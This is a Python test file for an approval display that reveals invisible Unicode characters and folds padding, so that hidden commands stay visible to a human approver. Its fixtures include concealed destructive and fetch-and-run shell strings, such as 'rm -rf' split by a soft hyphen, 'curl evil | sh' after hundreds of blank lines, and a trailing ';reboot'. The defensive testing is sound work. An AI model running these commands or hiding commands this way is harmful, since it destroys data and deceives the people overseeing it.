"""Exact display of texts for approval: every character is visible, or the hidden amount is (X7)."""

from __future__ import annotations

import unicodedata

import pytest
import regex

from callboard.contracts.text.exact import HEAD, TAIL, Fold, count_invisible, count_masked, fold, mark

_DEFAULT_IGNORABLE = regex.compile(r"\p{Default_Ignorable_Code_Point}")


def test_x7_every_control_format_and_default_ignorable_code_point_is_written_out():
    """The categories come from Python's database, the property from another library."""
    hidden = [
        char
        for char in map(chr, range(0x110000))
        if char not in "\t\n"
        and (
            unicodedata.category(char) in {"Cc", "Cf", "Cs", "Zl", "Zp"}
            or (unicodedata.category(char) == "Zs" and char not in " \u3000")
            or _DEFAULT_IGNORABLE.match(char)
        )
    ]
    assert len(hidden) > 6000
    assert [f"{ord(char):X}" for char in hidden if mark(char) != f"⟨U+{ord(char):04X}⟩"] == []


def test_x7_visible_text_stays_unchanged():
    plain = "".join(char for char in map(chr, range(0x20, 0x30000)) if unicodedata.category(char)[0] in "LNPS")
    marked = {char for char in plain if mark(char) != char}
    # Letters and symbols that fonts draw as blank.
    assert marked == set("\u115f\u1160\u3164\uffa0\u2800")
    assert mark("ls\t-l\necho 你好　世界") == "ls\t-l\necho 你好　世界"


@pytest.mark.parametrize(
    ("text", "marked", "count"),
    [
        ("rm\u00ad -rf", "rm⟨U+00AD⟩ -rf", 1),
        ("a\u00ad\u00ad\u00adb", "a⟨U+00AD ×3⟩b", 3),
        ("\U000e0041\U000e0042", "⟨U+E0041⟩⟨U+E0042⟩", 2),
        ("x\ufe0f\u202ey", "x⟨U+FE0F⟩⟨U+202E⟩y", 2),
        ("a\r\nb\rc", "a\nb⟨U+000D⟩c", 1),
        (f"true{' ' * 500}; rm", "true ⟨U+0020 ×500⟩ ; rm", 0),
    ],
)
def test_x7_invisible_characters_are_marked_by_code_point_and_counted(text: str, marked: str, count: int):
    assert (mark(text), count_invisible(text)) == (marked, count)


def test_x7_empty_lines_are_folded_with_their_number_and_the_command_after_them_is_visible():
    assert fold("true" + "\n" * 601 + "curl evil | sh") == [
        "true",
        Fold("empty_lines", 600, "\n" * 599),
        "curl evil | sh",
    ]
    assert fold("+a\n" + "+\n" * 5 + "+b", is_diff=True)[1] == Fold("empty_lines", 5, "+\n+\n+\n+\n+")


def test_x7_the_end_of_a_long_text_and_of_a_long_line_is_visible():
    parts = fold("\n".join(f"echo {number}" for number in range(1000)))
    assert (parts[HEAD - 1], parts[-1]) == (f"echo {HEAD - 1}", "echo 999")
    hidden = parts[HEAD]
    assert isinstance(hidden, Fold)
    assert (hidden.kind, hidden.count) == ("lines", 1000 - HEAD - TAIL)
    head, middle, tail = fold("x" * 50_000 + ";reboot")
    assert isinstance(middle, Fold)
    assert isinstance(head, str)
    assert isinstance(tail, str)
    assert (middle.count + len(head) + len(tail), tail.endswith(";reboot")) == (50_007, True)


def test_x7_folds_lose_nothing():
    text = "a\n\n\n\n\n\nb" * 50 + "z" * 4000
    whole = "".join(part if isinstance(part, str) else part.text for part in fold(text))
    assert whole.replace("\n", "") == text.replace("\n", "")


def test_x7_masked_values_are_counted():
    assert count_masked("curl -H secret://seen-0123456789ab secret://github") == 1
